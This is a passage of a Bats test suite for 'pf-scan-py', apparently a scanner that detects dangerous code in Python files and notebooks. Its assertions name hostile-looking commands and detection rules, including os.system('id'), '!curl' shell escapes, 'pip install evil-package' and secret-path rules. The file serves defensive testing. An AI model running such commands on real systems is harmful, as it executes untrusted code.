	jq -e '.status == "passed" and .findings[0].severity == "high"' <<<"$output"
}

@test "pf-scan-py: reruns are byte for byte the same" {
	run -1 --separate-stderr pf-scan-py "$FX/malicious"
	first=$output
	run -1 --separate-stderr pf-scan-py "$FX/malicious"
	[ "$output" = "$first" ]
	jq -e '[.findings[] | [.file, .offset]] == ([.findings[] | [.file, .offset]] | sort)' <<<"$output"
}

# ------------------------------------------------------------ the tokenizer

@test "tokenizer: invalid UTF-8 is a finding with its line and column" {
	put invalid-utf8 a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == [.findings[0]] and .findings[0].rule == "py.source.invalid-utf8"
	    and .findings[0].evidence.line == 3 and .findings[0].evidence.column == 6
	    and .findings[0].offset == 16' <<<"$output"
}

@test "tokenizer: a NUL byte is a finding" {
	put nul a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].rule == "py.source.nul" and .findings[0].evidence.line == 2
	    and .findings[0].evidence.column == 6' <<<"$output"
}

@test "tokenizer: CRLF line ends and continuations keep line numbers" {
	put crlf a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].rule == "py.process.shell" and .findings[0].evidence.line == 8
	    and .findings[0].evidence.source == "os.system('\''id'\'')"' <<<"$output"
}

@test "tokenizer: a string continued with a backslash and triple quotes keep line numbers" {
	put string-continuation a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].evidence.line == 7' <<<"$output"
}

@test "tokenizer: tab indentation (the call is in a function)" {
	put tabs a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].evidence.line == 6 and .findings[0].evidence.column == 3
	    and .findings[0].evidence.import_time == false' <<<"$output"
}

@test "tokenizer: inconsistent tabs and spaces are malformed" {
	put tabs-inconsistent a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].rule == "py.source.malformed"
	    and (.findings[0].evidence.name | contains("tabs"))' <<<"$output"
}

@test "tokenizer: nested f-strings (PEP 701) are analysed inside" {
	put nested-fstring a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[] | [.rule, .evidence.line, .evidence.column]]
	    == [["py.process.shell", 2, 16]]' <<<"$output"
}

@test "tokenizer: a 10 MB single line, the call at its end" {
	put long-line a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].rule == "py.process.shell" and .findings[0].evidence.line == 1
	    and .findings[0].evidence.column > 10000000
	    and (.findings[0].evidence.source | startswith("…") and contains("os.system"))
	    and .files[0].bytes > 10000000' <<<"$output"
}

@test "tokenizer: a 10 MB string literal is one token and no finding" {
	put long-string a.py
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == [] and .files[0].lines == 4' <<<"$output"
}

# ------------------------------------------------------------ notebooks

@test "notebook: code cells are scanned, markdown is not, lines count per cell" {
	put notebook-malicious n.ipynb
	run -1 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings | any(.rule == "py.process.shell" and .member == "cells[1]"
	    and .evidence.line == 3 and .evidence.import_time == false)
	    and all(.member != "cells[0]")' <<<"$output"
}

@test "notebook: !cmd, x = !cmd and %pip install are findings" {
	put notebook-malicious n.ipynb
	run -1 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings | any(.rule == "py.process.notebook-shell" and .member == "cells[2]"
	        and (.evidence.name | startswith("!curl")))
	    and any(.rule == "py.remote.pip-install" and .member == "cells[3]")
	    and any(.rule == "py.process.notebook-shell" and .member == "cells[4]"
	        and .evidence.column == 9)
	    and any(.rule == "py.secrets.path" and .member == "cells[4]")' <<<"$output"
}

@test "notebook: a %%bash cell is a shell script" {
	put notebook-bash n.ipynb
	run -1 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '[.findings[] | [.rule, .evidence.name, .evidence.line]]
	    == [["py.process.notebook-shell", "%%bash", 1],
	        ["py.remote.pip-install", "pip install evil-package", 2]]' <<<"$output"
}

@test "notebook: nbformat 3 worksheets are read" {
	put notebook-v3 n.ipynb
	run -1 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings[0].rule == "py.process.shell" and .findings[0].member == "cells[0]"' <<<"$output"
}

@test "notebook: malformed JSON is a finding, not an error" {
	put notebook-malformed n.ipynb
	run -1 --separate-stderr pf-scan-py "$D/n.ipynb"
	summary_only failed
	jq -e '.findings[0].rule == "py.notebook.malformed" and (.findings[0] | has("offset") | not)' <<<"$output"
}

@test "notebook: JSON without cells is malformed" {
	put notebook-nocells n.ipynb
	run -1 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings[0].rule == "py.notebook.malformed" and .findings[0].evidence.name == "no cells array"' <<<"$output"
}

# ------------------------------------------------------------ caps

@test "cap py_source: a file of exactly the cap is scanned" {
	pf_policy '.caps.py_source = 1000'
	put size a.py 1000
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == [] and .files[0].bytes == 1000' <<<"$output"
}

@test "cap py_source: one byte more is a finding naming PF_MAX_PY_SOURCE" {
	pf_policy '.caps.py_source = 1000'
	put size a.py 1001
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].rule == "py.source.limit" and .findings[0].evidence.name == "PF_MAX_PY_SOURCE"' <<<"$output"
}

@test "cap py_nest: at the cap" {
	pf_policy '.caps.py_nest = 10'
	put nest a.py 10
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == []' <<<"$output"
}

@test "cap py_nest: one more bracket names PF_MAX_PY_NEST" {
	pf_policy '.caps.py_nest = 10'
	put nest a.py 11
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].rule == "py.source.limit" and .findings[0].evidence.name == "PF_MAX_PY_NEST"
	    and .findings[0].evidence.column == 15' <<<"$output"
}

@test "cap py_nest: the built-in 200 levels, and 201" {
	put nest a.py 200
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	put nest a.py 201
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].evidence.name == "PF_MAX_PY_NEST"' <<<"$output"
}

@test "cap py_indent: at the cap" {
	pf_policy '.caps.py_indent = 5'
	put indent a.py 5
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == []' <<<"$output"
}

@test "cap py_indent: one more level names PF_MAX_PY_INDENT" {
	pf_policy '.caps.py_indent = 5'
	put indent a.py 6
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].rule == "py.source.limit" and .findings[0].evidence.name == "PF_MAX_PY_INDENT"
	    and .findings[0].evidence.line == 7' <<<"$output"
}

@test "cap py_names: at the cap every name resolves" {
	pf_policy '.caps.py_names = 10'
	put names a.py 9
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[].rule] == ["py.process.shell"]' <<<"$output"
}

@test "cap py_names: one name more names PF_MAX_PY_NAMES" {
	pf_policy '.caps.py_names = 10'
	put names a.py 10
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[] | [.rule, .evidence.name]] == [["py.source.limit", "PF_MAX_PY_NAMES"]]' <<<"$output"
}

@test "cap py_fold: a folded name of the cap's length resolves" {
	pf_policy '.caps.py_fold = 6'
	put fold a.py 6
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings | any(.rule == "py.obfuscation.constructed-name" and .evidence.name == "os.system")' <<<"$output"
}

@test "cap py_fold: one byte more names PF_MAX_PY_FOLD" {
	pf_policy '.caps.py_fold = 6'
	put fold a.py 7
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[] | [.rule, .evidence.name]] == [["py.source.limit", "PF_MAX_PY_FOLD"]]' <<<"$output"
}

@test "cap notebook: a notebook of exactly the cap is read" {
	put notebook-benign n.ipynb
	size=$(wc -c <"$D/n.ipynb")
	pf_policy ".caps.notebook = $size"
	run -0 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings == []' <<<"$output"
}

@test "cap notebook: one byte less than the file names PF_MAX_NOTEBOOK" {
	put notebook-benign n.ipynb
	size=$(wc -c <"$D/n.ipynb")
	pf_policy ".caps.notebook = $((size - 1))"
	run -1 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings[0].evidence.name == "PF_MAX_NOTEBOOK"' <<<"$output"
}

@test "cap notebook_cells: at the cap" {
	pf_policy '.caps.notebook_cells = 5'
	put notebook-cells n.ipynb 5
	run -0 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings == [] and .files[0].cells == 5' <<<"$output"
}

@test "cap notebook_cells: one cell more names PF_MAX_NOTEBOOK_CELLS" {
	pf_policy '.caps.notebook_cells = 5'
	put notebook-cells n.ipynb 6
	run -1 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings[0].evidence.name == "PF_MAX_NOTEBOOK_CELLS" and .files[0].cells == 5' <<<"$output"
}

@test "entropy: entropy_min_length decides, at the length and one below" {
	pf_policy '.python.entropy_min_length = 300'
	put entropy a.py 300
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].rule == "py.obfuscation.high-entropy"
	    and .findings[0].severity == "high" and .findings[0].evidence.import_time' <<<"$output"
	put entropy a.py 299
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == []' <<<"$output"
}

@test "notebook: an integer past 64 bits in its metadata is read, cells scanned" {
	put notebook-malicious n.ipynb
	sed -i '0,/"metadata": {}/s//"metadata": {"big": 1000000000000000019884624838656}/' \
	    "$D/n.ipynb"
	grep -q 1000000000000000019884624838656 "$D/n.ipynb"
	run -1 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings | any(.rule == "py.process.shell")' <<<"$output"
}
